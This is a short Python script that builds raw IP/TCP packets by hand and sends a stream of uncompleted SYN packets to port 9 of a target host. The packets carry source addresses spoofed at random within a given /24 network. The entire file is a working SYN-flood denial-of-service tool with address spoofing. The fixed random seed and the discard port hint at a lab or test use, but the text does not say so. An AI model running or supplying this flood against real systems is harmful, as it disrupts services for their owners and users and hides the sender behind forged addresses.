# SYNs that nobody completes, from any port of argv[1]'s network to port 9 of argv[2], argv[3] of them, as fast as they go: through a
# raw socket, as the kernel's own connections would be answered. Prints "flooding" when it begins.
import random
import socket
import struct
import sys

source, target, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
choice = random.Random(1)
prefix = socket.inet_aton(source)[:3]
destination = socket.inet_aton(target)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


print("flooding", flush=True)
for _ in range(count):
    address = prefix + bytes([choice.randrange(2, 250)])
    ports = struct.pack("!HH", choice.randrange(1024, 65536), 9)
    fields = struct.pack("!IIBBHHH", choice.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
    segment = ports + fields
    sum_ = checksum(address + destination + struct.pack("!HH", 6, len(segment)) + segment)
    segment = segment[:16] + struct.pack("!H", sum_) + segment[18:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0, address, destination)
    try:
        raw.sendto(header + segment, (target, 0))
    except OSError:
        pass
